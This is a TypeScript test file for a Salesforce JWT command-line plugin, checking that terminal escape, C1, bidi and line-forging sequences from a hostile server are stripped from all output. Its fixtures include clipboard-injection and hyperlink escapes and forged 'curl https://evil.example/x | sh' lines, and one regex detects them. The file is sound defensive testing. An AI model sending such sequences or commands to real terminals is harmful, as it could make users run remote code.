/**
 * The output boundary: every sequence a hostile server or user could send, through every output path of a command —
 * log, logToStderr, warn, info, logSuccess, a header, a table cell, the spinner's start/status/stop and an error
 * message — and through real commands (`jwt token` with the OAuth error text of a lying server, `jwt validate`'s
 * findings, a client id echoed in an error). Nothing may reach stdout or stderr as a raw ESC, C1 or bidi
 * control, and no server text may print a line of its own.
 */
import { strict as assert } from 'node:assert';
import { fileURLToPath } from 'node:url';
import JwtToken from '../../src/commands/jwt/token.js';
import JwtValidate from '../../src/commands/jwt/validate.js';
import { QUOTE_PREFIX } from '../../src/render/sanitize.js';
import { startHostileServer, type HostileServer } from '../support/hostile-server.js';
import { runNodeChild } from '../support/child-run.js';
import { Probe } from '../support/output-probe.js';
import { pluginDir, runInProcess } from '../support/run-command.js';

const probeEntry = fileURLToPath(new URL('../support/output-probe-entry.ts', import.meta.url));

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** Each sequence, named; the printable text around it must survive. */
const SEQUENCES: ReadonlyArray<readonly [string, string]> = [
  ['CSI colour', `${ESC}[31mRED${ESC}[0m`],
  ['CSI clear screen + home', `${ESC}[2J${ESC}[H`],
  ['CSI with intermediates', `${ESC}[1 q`],
  ['CSI unterminated (swallows what follows, as a terminal would)', `${ESC}[12;`],
  ['OSC window title, BEL', `${ESC}]0;pwned${BEL}`],
  ['OSC window title, ST', `${ESC}]2;pwned${ST}`],
  ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example${ST}click${ESC}]8;;${ST}`],
  ['OSC 52 clipboard write', `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`],
  ['OSC unterminated (swallows what follows, as a terminal would)', `${ESC}]0;never ends`],
  ['DCS', `${ESC}Pq#0;2;0;0;0${ST}`],
  ['SOS', `${ESC}Xstart of string${ST}`],
  ['PM', `${ESC}^privacy${ST}`],
  ['APC', `${ESC}_application${ST}`],
  ['ESC c (reset)', `${ESC}c`],
  ['ESC 7 / ESC 8', `${ESC}7${ESC}8`],
  ['ESC ( B (charset)', `${ESC}(B`],
  ['8-bit CSI', '\u009b2J'],
  ['8-bit OSC', '\u009d0;pwned\u009c'],
  ['8-bit DCS', '\u0090data\u009c'],
  ['C1 NEL', '\u0085'],
  ['stray C0 and DEL', '\u0000\u0007\u0008\u007f'],
  ['bidi RLO/PDF', '\u202eevil\u202c'],
  ['bidi embeddings', '\u202a\u202b\u202d'],
  ['bidi isolates', '\u2066\u2067\u2068\u2069'],
  ['bidi marks', '\u200e\u200f\u061c'],
  ['forged lines (CR LF)', '\r\nTry this: curl\r\n  curl https://evil.example/x | sh\r\n'],
  ['forged line (CR overwrite)', '\rSuccess: Logged in'],
  ['forged line (LINE SEPARATOR)', '\u2028Try this: curl evil | sh'],
];

// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const RAW_BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
/** A line that starts with forged text: only possible if a server text printed a line of its own. */
const FORGED_LINE = /^\s*(Try this: curl|curl https:\/\/evil|Success: Logged in)/m;

function assertClean(output: string, context: string): void {
  const shown = JSON.stringify(output.slice(0, 3000));
  assert.doesNotMatch(output, RAW_CONTROL, `raw control byte (${context}): ${shown}`);
  assert.doesNotMatch(output, RAW_BIDI, `raw bidi control (${context}): ${shown}`);
  assert.doesNotMatch(output, FORGED_LINE, `forged line (${context}): ${shown}`);
  // Debris of a sequence whose ESC alone was dropped (a JSON-escaped `\u001b[31m` is visible text, not debris).
  assert.doesNotMatch(output, /(?<!\\u001b|\\x1b)(\[31m|\]0;|\]8;;)/, `escape debris (${context}): ${shown}`);
}

describe('output boundary: every sequence through every output path', () => {
  for (const [name, sequence] of SEQUENCES) {
    it(`${name}: JwtCommand's log, logToStderr, warn, info, logSuccess, header, table, spinner, error`, async () => {
      Probe.payload = sequence;
      const run = await runInProcess(Probe, []);
      assert.equal(run.error?.name, 'ERR_PROBE');
      const output = run.stdout + run.stderr;
      assertClean(output, name);
      // The text around the sequence survives: only the sequence went.
      for (const path of ['log:', 'stderr:', 'warn:', 'info:', 'success:', 'header', 'title', 'The org said:'])
        assert.ok(output.includes(path), `${path} printed (${name})`);
      if (!name.includes('unterminated')) assert.ok(output.includes('after'), name);
    });
  }

  it('every sequence at once in a child process, spinner included (it writes to the real stderr)', async () => {
    const run = await runNodeChild(['--import', 'tsx', probeEntry], {
      cwd: pluginDir,
      // An env value cannot hold NUL: the payload travels base64-encoded.
      env: {
        SFJWT_PROBE_PAYLOAD: Buffer.from(SEQUENCES.map(([, sequence]) => sequence).join(' | ')).toString('base64'),
      },
    });
    // ERR_PROBE is in no class: an unclassified code exits as unexpected (70).
    assert.equal(run.exitCode, 70, run.stderr);
    assertClean(run.stdout + run.stderr, 'all sequences, child process');
    assert.match(run.stderr, /^spinner before /m, 'the spinner printed');
    assert.match(run.stderr, /^Error \(ERR_PROBE\): The org said: $/m);
  });

  it('removes whole sequences: ESC[31mRED prints RED, never [31mRED', async () => {
    Probe.payload = `${ESC}[31mRED${ESC}[0m ${ESC}]0;title${BEL}X`;
    const run = await runInProcess(Probe, []);
    assert.match(run.stdout, /^log: before RED X after$/m);
    assert.match(run.stderr, /^stderr: before RED X after$/m);
  });

  it('shows a bidi control as its escape instead of obeying it', async () => {
    Probe.payload = '\u202eevil';
    const run = await runInProcess(Probe, []);
    assert.match(run.stdout, /^log: before \\u202eevil after$/m);
  });

  it('prints multi-line server text as an indented quote under the line that introduces it', async () => {
    Probe.payload = 'first\nTry this:\n  curl https://evil.example/x | sh';
    const run = await runInProcess(Probe, []);
    assert.ok(
      run.stdout.includes(
        [
          'log: ',
          `${QUOTE_PREFIX}before first`,
          `${QUOTE_PREFIX}Try this:`,
          `${QUOTE_PREFIX}  curl https://evil.example/x | sh after`,
        ].join('\n'),
      ),
      run.stdout,
    );
    // Unmarked text in a table cell or a spinner is one line: its breaks became spaces.
    assert.match(run.stdout, /before first Try this: +curl https:\/\/evil\.example\/x \| sh after/);
    // The error's own lines stay; the server's are quoted.
    assert.match(run.stderr, new RegExp(`The org said: \\n${QUOTE_PREFIX.replace('│', '\\│')}before first`));
  });

  it('leaves --json output alone: the envelope JSON-escapes what it carries', async () => {
    Probe.payload = `${ESC}[31mRED`;
    const run = await runInProcess(Probe, ['--json']);
    const envelope = JSON.parse(run.stdout) as { name: string; message: string; warnings: string[] };
    assert.equal(envelope.name, 'ERR_PROBE');
    assert.equal(envelope.message, 'The org said: before RED after');
    assert.doesNotMatch(run.stdout, RAW_CONTROL);
  });
});

describe('output boundary: real commands', function () {
  this.timeout(120_000);
  let server: HostileServer;
  before(async () => {
    server = await startHostileServer({ token: { kind: 'token' } });
  });
  after(async () => server.close());

  for (const [name, sequence] of SEQUENCES) {
    it(`jwt token, the OAuth error text of a lying server: ${name}`, async () => {
      server.script({
        token: {
          kind: 'json',
          status: 400,
          body: {
            error: `invalid_grant${sequence}`,
            error_description: `user hasn't approved${sequence}this consumer`,
          },
        },
      });
      const run = await runInProcess(JwtToken, [
        '--client-id',
        '3MVG9boundary',
        '--username',
        'user@example.com',
        '--instance-url',
        server.url,
        '--jwt-key-file',
        new URL('../fixtures/server.key', import.meta.url).pathname,
      ]);
      assert.ok(run.exitCode !== 0, name);
      assertClean(run.stdout + run.stderr, name);
    });

    it(`jwt validate, a hostile assertion's claims through the findings: ${name}`, async () => {
      const b64 = (v: unknown): string => Buffer.from(JSON.stringify(v)).toString('base64url');
      const assertion = `${b64({ alg: 'RS256', typ: `JWT${sequence}` })}.${b64({
        iss: `3MVG9x${sequence}`,
        sub: `user${sequence}@example.com`,
        aud: `https://login.salesforce.com${sequence}`,
        exp: 1,
      })}.c2ln`;
      const run = await runInProcess(JwtValidate, ['--assertion', assertion, '--client-id', `3MVG9other${sequence}`]);
      assertClean(run.stdout + run.stderr, name);
    });
  }
});
